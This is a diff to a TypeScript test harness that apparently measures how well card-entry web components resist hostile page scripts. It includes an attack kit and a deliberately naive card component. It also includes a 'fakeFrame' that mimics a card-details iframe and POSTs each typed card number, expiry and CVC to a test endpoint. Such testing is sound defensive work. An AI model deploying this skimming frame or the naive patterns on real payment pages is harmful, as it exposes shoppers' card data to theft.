@@ -11,6 +11,8 @@ export interface PageConfig {
   readonly order: Order;
   readonly evil: string;
   readonly control: string;
+  /** Address of our script. */
+  readonly script: string;
   /** Pairs of neighbouring digits of the card and of the control, for style sheets that must name them. */
   readonly pairs: readonly string[];
 }
@@ -20,7 +22,7 @@ export const instrument = (config: PageConfig): string => `window.__config = ${J
 /** Each attack in a scope of its own; one that throws is a broken attack, not a defence. */
 export const attackScript = (attacks: readonly Attack[]): string =>
   attacks.map(({ id, script }) => `__kit(${JSON.stringify(id)}, (kit) => {
-    const { steal, typed, own, raid, seize, patch, crawl, moment, atEnd, hosts, whenHosts, listen, FAKE, EVIL, order, PAIRS } = kit;
+    const { steal, typed, own, raid, seize, patch, crawl, moment, atEnd, hosts, whenHosts, listen, FAKE, EVIL, SCRIPT, order, PAIRS } = kit;
     ${script}
   });`).join('\n');
 
@@ -215,7 +217,7 @@ const INSTRUMENT = String.raw`(() => {
     const moment = (work) => pushTo(moments, work);
     const atEnd = (work) => pushTo(ends, work);
     return { steal, typed, own, raid, seize, patch, crawl, moment, atEnd, hosts, whenHosts, listen, contentWindow, getAttribute, setAttribute, query, guarded,
-      FAKE, EVIL, order: config.order, PAIRS: config.pairs };
+      FAKE, EVIL, SCRIPT: config.script, order: config.order, PAIRS: config.pairs };
   };
 
   window.__kit = (id, run) => {
@@ -264,11 +266,13 @@ const INSTRUMENT = String.raw`(() => {
 /** Written without a thought of hostile scripts: public root, everything by way of the page's own built-ins. */
 export const NAIVE = String.raw`(() => {
   const { control, run } = window.__config;
+  const { src } = document.currentScript;
   const settings = {};
 
   class NaiveCard extends HTMLElement {
     connectedCallback() {
-      this.renderRoot = this.shadowRoot ?? this.attachShadow({ mode: 'closed' });
+      this.renderRoot ??= this.shadowRoot ?? this.attachShadow({ mode: 'closed' });
+      if (this.renderRoot.firstChild) return;
       const template = document.createElement('template');
       template.innerHTML = '<label>Card <input id="number" part="number" name="cardno" autocomplete="off"></label><output></output>';
       this.renderRoot.append(template.content.cloneNode(true));
@@ -300,6 +304,8 @@ export const NAIVE = String.raw`(() => {
       const { port1, port2 } = new MessageChannel();
       port2.onmessage = ({ data }) => void data.number;
       port1.postMessage({ type: 'pay', number });
+      void import('/run/' + run + '/naive-module.js').then((module) => module.pay({ number }));
+      void Promise.resolve({ number }).then(() => undefined);
       window.Multipayment?.getToken?.({ cardno: number }, () => undefined);
     }
   }
@@ -307,7 +313,7 @@ export const NAIVE = String.raw`(() => {
   /** A frame with a name, in a closed root, that tells its parent everything. The document has the number typed in already. */
   class NaiveFrame extends HTMLElement {
     connectedCallback() {
-      this.renderRoot = this.shadowRoot ?? this.attachShadow({ mode: 'closed' });
+      this.renderRoot ??= this.shadowRoot ?? this.attachShadow({ mode: 'closed' });
       const host = document.createElement('div');
       const address = settings.hostedUrl ?? settings.frameUrl ?? this.getAttribute('src');
       host.innerHTML = '<iframe name="naive-frame" title="naive" tabindex="-1" src="' + address + '"></iframe>';
@@ -315,7 +321,7 @@ export const NAIVE = String.raw`(() => {
       const again = document.createElement('iframe');
       again.name ||= 'naive-again';
       again.tabIndex = -1;
-      again.setAttribute('src', address);
+      again.setAttribute('src', new URL(this.getAttribute('hosted-url') ?? '../../naive-frame', src).href);
       this.renderRoot.append(frame, again);
     }
   }
@@ -343,9 +349,9 @@ addEventListener('message', ({ data, source, ports }) => {
 </script>`;
 
 /** What the attacker puts into a frame: it looks like ours, and keeps what is typed. */
-export const fakeFrame = (attack: string): string => `<!doctype html><meta charset="utf-8"><title>Card details</title>
+export const fakeFrame = (run: string, attack: string): string => `<!doctype html><meta charset="utf-8"><title>Card details</title>
 <input id="number"><input id="expiry"><input id="cvc"><script>
-const tell = (text) => fetch('../own/${attack}?window=' + encodeURIComponent(name), { method: 'POST', body: text });
+const tell = (text) => fetch('/${run}/own/${attack}?window=' + encodeURIComponent(name), { method: 'POST', body: text });
 tell('arrived');
 addEventListener('input', () => tell('typed ' + [...document.querySelectorAll('input')].map(({ value }) => value).join(' ')));
 addEventListener('message', ({ data, ports: [port] }) => {
